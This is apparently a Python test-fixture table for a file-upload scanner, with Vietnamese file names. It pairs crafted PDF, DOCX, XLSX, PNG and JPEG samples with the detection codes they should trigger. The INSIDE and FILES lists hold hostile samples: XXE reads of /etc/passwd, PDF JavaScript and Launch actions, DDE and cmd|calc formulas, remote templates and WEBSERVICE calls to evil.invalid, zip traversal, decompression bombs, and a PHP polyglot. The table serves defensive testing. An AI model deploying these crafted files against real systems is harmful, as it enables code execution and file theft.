"""One table: a file's name and bytes, and the codes that it must bring; () is an honest file."""

# A case a line reads better than a case in ten.
# ruff: noqa: E501

from __future__ import annotations

import io
import zipfile
import zlib

import openpyxl
import pikepdf

from .samples import (
    chunk,
    docx,
    docx_files,
    jpg,
    pdf,
    png,
    rel,
    run,
    segment,
    stream,
    xlsx,
    zipped,
)

NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{}</dc:creator></cp:coreProperties>'
)
Case = tuple[str, bytes, tuple[str, ...]]


def _saved(**options: object) -> bytes:
    """A script that only shows when object streams are opened, or an encrypted file."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    with pikepdf.new() as document:
        document.add_blank_page()
        if not options.get("encryption"):
            document.Root.OpenAction = document.make_indirect(script)
        target = io.BytesIO()
        document.save(target, **options)
    return target.getvalue()


def _honest_pdf() -> bytes:
    """Links, outlines, fonts called AA, object streams, a signature field: nothing that acts."""
    with pikepdf.new() as document:
        for _ in range(3):
            document.add_blank_page()
        page = document.pages[0].obj
        go = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://tinhmau.gov.vn/a")
        rect = [0, 0, 9, 9]
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect, A=go)
        page.Annots = pikepdf.Array([document.make_indirect(link)])
        font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1)
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary({"/AA": document.make_indirect(font)}))
        document.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])
        signature = pikepdf.Dictionary(FT=pikepdf.Name.Sig, T="(/JavaScript) /Launch", V=pikepdf.Dictionary())
        document.Root.AcroForm = pikepdf.Dictionary(Fields=[document.make_indirect(signature)], SigFlags=3)
        target = io.BytesIO()
        document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()


def _workbook(*, hide: str = "", creator: str | None = None) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Cơ quan", "Số cuộc", "=SUM(B2:B9)"])
    other = book.create_sheet("Phụ lục")
    if hide == "sheet":
        other.sheet_state = "veryHidden"
    if hide == "column":
        other.column_dimensions["B"].hidden = True
    book.properties.creator = creator
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def _twice() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in docx_files().items():
            archive.writestr(name, content)
        archive.writestr("Word/Document.xml", "<a/>")
    return target.getvalue()


def _lying() -> bytes:
    """The directory declares ten bytes; a megabyte comes out."""
    data = docx(more={"word/media/a.xml": b"<a>" + b" " * 1_000_000 + b"</a>"})
    size, small = (1_000_007).to_bytes(4, "little"), (10).to_bytes(4, "little")
    assert data.count(size) == 2
    return data.replace(size, small)


def _gap() -> bytes:
    """A file between members that the directory does not name."""
    data = docx()
    at = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    moved = (at + 100).to_bytes(4, "little")
    return data[:at] + b"x" * 100 + data[at : end + 16] + moved + data[end + 20 :]


DDE = '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x "/c calc"</w:instrText></w:r></w:p>'
STYLES = f'<w:styles {NS}><w:style w:styleId="An"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
BOMB = pdf(b"", b"/Contents 4 0 R", stream(b"/Filter/FlateDecode", zlib.compress(b"\0" * 80_000_000, 9)))

HONEST: list[Case] = [
    ("don-gian.pdf", pdf(), ()),
    ("day-du.pdf", _honest_pdf(), ()),
    ("HOA.PDF", pdf(pages=4), ()),
    ("nhieu-trang.pdf", pdf(pages=900), ()),
    ("mo-trang-1.pdf", pdf(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), ()),
    ("bao-cao.docx", docx(), ()),
    ("link.docx", docx(more={"word/_rels/document.xml.rels": rel("hyperlink", "https://a.vn/b", external=True)}), ()),
    ("muc-luc.docx", docx('<w:p><w:r><w:rPr><w:webHidden/></w:rPr><w:instrText> PAGEREF _T1 \\h </w:instrText></w:r></w:p>'), ()),
    ("vanish-tat.docx", docx(run("a", '<w:rPr><w:vanish w:val="0"/></w:rPr>')), ()),
    ("co-anh.docx", docx(more={"word/media/image1.png": png()}), ()),
    ("dau-doan.docx", docx("<w:p><w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>"), ()),
    ("so-lieu.xlsx", _workbook(), ()),
    ("tay.xlsx", xlsx(), ()),
    ("in.xlsx", xlsx(more={"xl/printerSettings/printerSettings1.bin": b"\0H\0P\0" * 99}), ()),
    ("anh.png", png(side=40), ()),
    ("anh.jpg", jpg(), ()),
    ("anh.JPEG", jpg(segment(0xE2, b"ICC_PROFILE\0\1\1abc")), ()),
]  # fmt: skip

FILES: list[Case] = [
    ("a.svg", b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>', ("D520",)),
    ("a.html", b"<script>1</script>", ("D520",)),
    ("a.pdf.exe", b"MZ", ("D520",)),
    ("khong-duoi", b"%PDF-1.7", ("D520",)),
    ("a.zip", zipped({"a": "b"}), ("D520",)),
    ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), ("D521",)),
    ("ole.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), ("D521",)),
    ("a.rtf", b"{\\rtf1{\\object\\objemb}}", ("D521",)),
    ("rtf.docx", b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}", ("D521",)),
    ("exe.pdf", b"MZ" + bytes(200), ("D522",)),
    ("html.pdf", b"<html><script>1</script>", ("D522",)),
    ("pdf.docx", pdf(), ("D522",)),
    ("xlsx.docx", xlsx(), ("D522",)),
    ("docx.pdf", docx(), ("D522",)),
    ("zip.docx", zipped({"a.txt": "b"}), ("D522",)),
    ("gif.png", b"GIF89a" + bytes(20), ("D522",)),
    ("jpg.png", jpg(), ("D522",)),
    ("truoc.pdf", b"x\n" + pdf(), ("D522",)),
    ("rong.pdf", b"", ("D523",)),
    ("lon.pdf", pdf() + bytes(26 * 1024 * 1024), ("D524",)),
    ("lfs.pdf", b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 12345\n", ("D525",)),
    ("cut.pdf", pdf()[:150], ("D526",)),
    ("xref.pdf", pdf().replace(b"startxref\n", b"startxref\n9"), ("D526",)),
    ("trong.pdf", b"%PDF-1.7\n%%EOF", ("D526",)),
    ("lap.pdf", pdf().replace(b"Kids[3 0 R]", b"Kids[2 0 R]"), ("D526",)),
    ("hai-khoa.pdf", pdf(b"/A 1/A 2"), ("D526",)),
    ("cut.png", png()[:-14], ("D526",)),
    ("thieu-dong.png", png(side=9, rows=b"\0" * 12), ("D526",)),
    ("crc.png", png()[:-1] + b"x", ("D526",)),
    ("cut.jpg", jpg(end=b""), ("D526",)),
    ("cut.docx", docx()[:-9], ("D526",)),
    ("xml.docx", docx("<w:p>"), ("D526",)),
    ("utf7.docx", docx(more={"word/a.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}), ("D526",)),
    ("khoa.pdf", _saved(encryption=pikepdf.Encryption(owner="a", user="b")), ("D527",)),
    ("khoa-trong.pdf", _saved(encryption=pikepdf.Encryption(owner="a", user="")), ("D527",)),
    ("gia-khoa.pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O(%b)/U(%b)>>/ID[(a)(b)]"
                         % (b"o" * 32, b"u" * 32)), ("D527",)),
    ("khoa.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), ("D527",)),
    ("bom.pdf", BOMB, ("D528",)),
    ("hai-lop.pdf", pdf(b"", b"", stream(b"/Filter[/FlateDecode/FlateDecode]", b"x")), ("D528",)),
    ("anh-to.pdf", pdf(b"", b"", stream(b"/Type/XObject/Subtype/Image/Width 90000/Height 90000", b"x")), ("D528",)),
    ("sau.pdf", pdf(b"/X" + b"[" * 9_000 + b"]" * 9_000), ("D528",)),
    ("bom.docx", docx(more={"word/media/x.bin": bytes(30_000_000)}), ("D528",)),
    ("nhieu.docx", docx(more={f"word/{number}.xml": "<a/>" for number in range(2_100)}), ("D528",)),
    ("bom.png", png(declared=60_000), ("D528",)),
    ("bom.jpg", jpg(side=60_000), ("D528",)),
]  # fmt: skip

INSIDE: list[Case] = [
    ("js.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), ("D530",)),
    ("an-ten.pdf", pdf(b"/Names<</J#61vaScript<</Names[]>>>>"), ("D530",)),
    ("goi.pdf", _saved(object_stream_mode=pikepdf.ObjectStreamMode.generate), ("D530",)),
    ("launch.pdf", pdf(b"", b"/Annots[<</Subtype/Link/Rect[0 0 1 1]/A<</S/Launch/F(x.exe)>>>>]"), ("D530",)),
    ("web.pdf", pdf(b"/OpenAction<</S/URI/URI(https://evil.invalid/)>>"), ("D530",)),
    ("aa.pdf", pdf(b"", b"/AA<</O<</S/Named/N/Print>>>>"), ("D530",)),
    ("exe.trong.pdf", pdf(b"/Names<</EmbeddedFiles<</Names[(x.exe)4 0 R]>>>>", b"",
                          b"<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>", stream(b"/Type/EmbeddedFile", b"MZ")), ("D531",)),
    ("phim.pdf", pdf(b"", b"/Annots[<</Subtype/RichMedia/Rect[0 0 1 1]>>]"), ("D531",)),
    ("gui.pdf", pdf(b"", b"/Annots[<</Subtype/Widget/A<</S/SubmitForm/F(https://evil.invalid/)>>>>]"), ("D532",)),
    ("xfa.pdf", pdf(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"", stream(b"", b"<xdp/>")), ("D532",)),
    ("xa.pdf", pdf(b"", b"/Annots[<</Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>>>]"), ("D532",)),
    ("tep.pdf", pdf(b"", b"/Annots[<</Subtype/Link/A<</S/URI/URI(file:///c:/x)>>>>]"), ("D532",)),
    ("ngoai.pdf", pdf(b"", b"", stream(b"/F(\\\\\\\\evil\\\\x)", b"")), ("D532",)),
    ("a.docm", docx(), ("D533",)),
    ("vba.docx", docx(more={"word/vbaProject.bin": b"x"}), ("D533",)),
    ("loai.docx", docx(types='<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), ("D533",)),
    ("xlm.xlsx", xlsx(more={"xl/macrosheets/sheet1.xml": "<a/>"}), ("D533",)),
    ("ole.docx", docx(more={"word/embeddings/oleObject1.bin": b"x"}), ("D534",)),
    ("exe.docx", docx(more={"word/media/image1.png": b"MZ" + bytes(99)}), ("D534",)),
    ("html.docx", docx(more={"word/_rels/document.xml.rels": rel("aFChunk", "a.xml")}), ("D534",)),
    ("mau.docx", docx(more={"word/_rels/settings.xml.rels": rel("attachedTemplate", "https://evil.invalid/x.dotm", external=True)}), ("D535",)),
    ("anh-xa.docx", docx(more={"word/_rels/document.xml.rels": rel("image", "https://evil.invalid/x.png", external=True)}), ("D535",)),
    ("unc.docx", docx(more={"word/_rels/document.xml.rels": rel("hyperlink", "file://evil/x", external=True)}), ("D535",)),
    ("dde.docx", docx(DDE), ("D535",)),
    ("dde16.docx", docx(more={"word/a.xml": ('<?xml version="1.0" encoding="utf-16"?>' + f"<w:p {NS}>{DDE[5:]}").encode("utf-16")}), ("D535",)),
    ("truong.docx", docx('<w:p><w:fldSimple w:instr=" INCLUDETEXT c:\\\\x "/></w:p>'), ("D535",)),
    ("ngoai.xlsx", xlsx(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), ("D535",)),
    ("ket-noi.xlsx", xlsx(more={"xl/connections.xml": "<a/>"}), ("D535",)),
    ("cmd.xlsx", xlsx(rows="<row><c><f>cmd|'/c calc'!A0</f></c></row>"), ("D535",)),
    ("goi-web.xlsx", xlsx(rows='<row><c><f>_xlfn.WEBSERVICE("https://evil.invalid")</f></c></row>'), ("D535",)),
    ("trung.docx", _twice(), ("D536",)),
    ("noi-doi.docx", _lying(), ("D536",)),
    ("khoang.docx", _gap(), ("D536",)),
    ("leo.docx", docx(more={"../../x.xml": "<a/>"}), ("D536",)),
    ("goc.docx", docx(more={"/etc/x.xml": "<a/>"}), ("D536",)),
    ("duoi.docx", docx() + b"x", ("D536",)),
    ("dtd.docx", docx(more={"word/a.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}), ("D537",)),
    ("xxe.docx", docx(more={"a.rels": '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}), ("D537",)),
    ("hai.png", png(tail=zipped({"a": "b"})), ("D538",)),
    ("hai.jpg", jpg(tail=b"<?php system(1);"), ("D538",)),
    ("hai.pdf", pdf(tail=zipped({"a": "b"})), ("D538",)),
]  # fmt: skip

HELD: list[Case] = [
    ("chu-an.docx", docx(run("CNR", "<w:rPr><w:vanish/></w:rPr>")), ("D540",)),
    ("kieu-an.docx", docx(run("CNR", '<w:rPr><w:rStyle w:val="An"/></w:rPr>'), {"word/styles.xml": STYLES}), ("D540",)),
    ("trang-an.xlsx", _workbook(hide="sheet"), ("D541",)),
    ("cot-an.xlsx", _workbook(hide="column"), ("D541",)),
    ("dong-an.xlsx", xlsx(rows='<row hidden="1"><c><v>1</v></c></row>'), ("D541",)),
    ("vet-sua.docx", docx('<w:p><w:del w:author="CNR"><w:r><w:delText>CNR</w:delText></w:r></w:del></w:p>'), ("D542",)),
    ("y-kien.docx", docx(more={"word/comments.xml": f"<w:comments {NS}/>"}), ("D542",)),
    ("y-kien.pdf", pdf(b"", b"/Annots[<</Subtype/Text/Rect[0 0 1 1]/Contents(CNR)>>]"), ("D542",)),
    ("loi-ghi.docx", zipped(docx_files(), comment=b"CNR"), ("D543",)),
    ("ten.png", png(chunk(b"tEXt", b"Author\0CNR")), ("D544",)),
    ("exif.png", png(chunk(b"eXIf", b"MM\0*")), ("D544",)),
    ("exif.jpg", jpg(segment(0xE1, b"Exif\0\0MM\0*CNR")), ("D544",)),
    ("loi.jpg", jpg(segment(0xFE, b"CNR")), ("D544",)),
    ("anh.docx", docx(more={"word/media/a.jpg": jpg(segment(0xE1, b"Exif\0\0CNR"))}), ("D544",)),
    ("thua.png", png(tail=b"CNR"), ("D545",)),
    ("thua.jpg", jpg(tail=b"\0\0\0\x18ftypmp42CNR"), ("D545",)),
    ("nguoi.docx", docx(more={"docProps/core.xml": CORE.format("CNR")}), ("D546",)),
    ("nguoi.xlsx", _workbook(creator="CNR"), ("D546",)),
    ("nguoi.pdf", pdf(trailer=b"/Info<</Author(CNR)>>"), ("D546",)),
]  # fmt: skip

EVERY = [*HONEST, *FILES, *INSIDE, *HELD]
